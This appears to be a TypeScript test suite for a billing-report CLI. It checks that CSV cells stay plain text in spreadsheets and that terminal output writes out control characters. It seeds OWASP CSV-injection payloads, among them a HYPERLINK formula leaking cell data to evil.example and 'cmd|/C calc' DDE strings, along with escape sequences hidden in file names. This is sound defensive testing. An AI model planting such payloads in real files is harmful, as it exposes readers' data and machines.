import { execFileSync, spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import {
  type AccountIdStyle,
  accountsCsv,
  groupsCsv,
  groupTransfersCsv,
  transfersCsv,
} from '../../lambdas/core/report-csv.js';
import type { Report } from '../../lambdas/core/report-model.js';
import { formatReportTable } from '../../lambdas/core/report-table.js';
import { cur1Csv, tempFolder } from '../adapters/billing-files.js';
import { onePeriodReport } from '../helpers/one-period-report.js';

// Issue 15 item 12: text from billing files never becomes a live spreadsheet formula or a raw
// terminal control sequence.

/** Ids an attacker can put in a billing file (OWASP CSV-injection payloads). */
const FORMULA_IDS = [
  '"&HYPERLINK("http://evil.example/?leak="&A1,"click")&"',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
];
/** Group names Billing Conductor accepts (a-z A-Z 0-9 _ + = . - @) that a spreadsheet computes. */
const FORMULA_GROUPS = ['=1+1', '@A1', '-2+3', '+A1'];

const report = (
  ids: readonly string[],
  groups: readonly string[],
  warnings: readonly string[] = [],
): Report =>
  onePeriodReport({
    accounts: ids.map((id) => ({
      accountId: id,
      payerAccountId: id,
      usageCost: '-1.5',
      ownerCost: '2',
      invoiceCost: '0',
    })),
    transfers: ids.map((id) => ({
      ownerAccountId: id,
      consumerAccountId: '000000000101',
      commitment: 'ri',
      cost: '1.25',
    })),
    groups: groups.map((name) => ({
      name,
      primaryAccountId: ids[0]!,
      accountIds: ['000000000101'],
      usageCost: '1',
      ownerCost: '1',
      invoiceCost: '1',
    })),
    groupTransfers: groups.map((name) => ({
      ownerGroup: name,
      consumerGroup: name,
      commitment: 'sp',
      cost: '-3',
    })),
    warnings,
  });

/** ="…" holding one string literal: Excel and LibreOffice show its text, it computes nothing. */
const TEXT_FORMULA = /^="((?:[^"]|"")*)"$/;
/** What a spreadsheet makes of a field it opens (OWASP: = + - @ tab CR start a formula). */
const asSpreadsheetEnters = (value: string): ExcelJS.CellValue => {
  if (value === '') return null;
  const text = TEXT_FORMULA.exec(value);
  if (text) return text[1]!.replaceAll('""', '"');
  if (!Number.isNaN(Number(value))) return Number(value);
  if (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value))
    return { formula: value, date1904: false };
  return value;
};

/** The CSV opened in exceljs as a spreadsheet opens it. */
async function openCsv(text: string): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  return workbook.csv.read(Readable.from([text.replace(/^\uFEFF/, '')]), {
    map: asSpreadsheetEnters,
  });
}

const cellsOf = (sheet: ExcelJS.Worksheet): ExcelJS.Cell[] => {
  const cells: ExcelJS.Cell[] = [];
  sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
};

describe('CSV cells stay text in a spreadsheet (issue 15 item 12)', () => {
  const hostile = report(FORMULA_IDS, FORMULA_GROUPS);
  const csvs = (style: AccountIdStyle) => ({
    'accounts.csv': accountsCsv(hostile, { accountIds: style }),
    'transfers.csv': transfersCsv(hostile, { accountIds: style }),
    'groups.csv': groupsCsv(hostile, { accountIds: style }),
    'group-transfers.csv': groupTransfersCsv(hostile),
  });

  it.each(['excel', 'plain'] as const)(
    'holds no formula in any %s-style CSV, and shows every id',
    async (style) => {
      for (const [name, text] of Object.entries(csvs(style))) {
        const cells = cellsOf(await openCsv(text));
        const formulas = cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula);
        expect([name, formulas.map((cell) => cell.address)]).toEqual([name, []]);
        const shown = cells.map((cell) => String(cell.value).replace(/^'/, ''));
        const expected = name.startsWith('group') ? FORMULA_GROUPS : FORMULA_IDS;
        for (const text of expected)
          expect([name, shown]).toEqual([name, expect.arrayContaining([text])]);
      }
    },
  );

  it('keeps exact amounts numbers (a negative cost is not escaped) and 12-digit ids text', async () => {
    const sheet = await openCsv(accountsCsv(report(['000000000777'], []), { accountIds: 'excel' }));
    expect(sheet.getRow(2).values).toEqual([
      undefined,
      '2025-10',
      'USD',
      'true',
      '000000000777',
      '000000000777',
      -1.5,
      2,
      0,
    ]);
  });
});

/** C0 (but line feed), DEL, C1, bidi overrides and isolates, line and paragraph separators. */
const RAW_CONTROL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it finds
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe('terminal text shows control characters written out (issue 15 item 12)', () => {
  it('prints ids, group names and warnings with ESC, C1 and bidi overrides written out', () => {
    const table = formatReportTable(
      report(
        ['\x1b[2J\x1b]0;pwned\x07', '\x9b31m', 'abc\u202edcba'],
        ['\x1b[5mblink'],
        ['file \x1b[31mred\r\u2066x'],
      ),
    );
    expect(table).not.toMatch(RAW_CONTROL);
    expect(table).toContain('\\x1b[2J');
    expect(table).toContain('\\x9b31m');
    expect(table).toContain('abc\\u202edcba');
    expect(table).toContain('file \\x1b[31mred\\x0d\\u2066x');
  });
});

describe('whopays stderr lines (issue 15 item 12)', () => {
  const ROOT = resolve(__dirname, '../..');
  let folder: ReturnType<typeof tempFolder>;
  beforeAll(() => {
    execFileSync(process.execPath, [join(ROOT, 'scripts/build-cli.mjs')], { cwd: ROOT });
    folder = tempFolder();
  }, 60_000);
  afterAll(() => folder.cleanup());
  const whopays = (...args: string[]) =>
    spawnSync(process.execPath, [join(ROOT, 'bin/whopays.mjs'), ...args], { encoding: 'utf8' });

  it('writes out the escapes in a refused file name', () => {
    const name = join(folder.path, 'bill\x1b]0;pwned\x07\x1b[2J.csv');
    writeFileSync(name, 'not,a,bill\n1,2,3\n');
    const run = whopays('report', name);
    expect(run.status).toBe(2);
    expect(run.stderr).not.toMatch(RAW_CONTROL);
    expect(run.stderr).toContain('bill\\x1b]0;pwned\\x07\\x1b[2J.csv');
    expect(run.stderr.trimEnd().split('\n')).toHaveLength(1);
  });

  it('writes out the escapes in the progress line of a file it reads', () => {
    const name = join(folder.path, 'cur\u202e.csv');
    writeFileSync(
      name,
      cur1Csv([
        {
          bill_payer_account_id: '000000000100',
          bill_billing_period_start_date: '2025-10-01T00:00:00Z',
          line_item_usage_account_id: '000000000101',
          line_item_line_item_type: 'Usage',
          line_item_currency_code: 'USD',
          line_item_unblended_cost: '2.5',
        },
      ]),
    );
    const run = whopays('report', name);
    expect(run.status).toBe(0);
    expect(run.stderr).not.toMatch(RAW_CONTROL);
    expect(run.stderr).toContain('cur\\u202e.csv');
  });
});
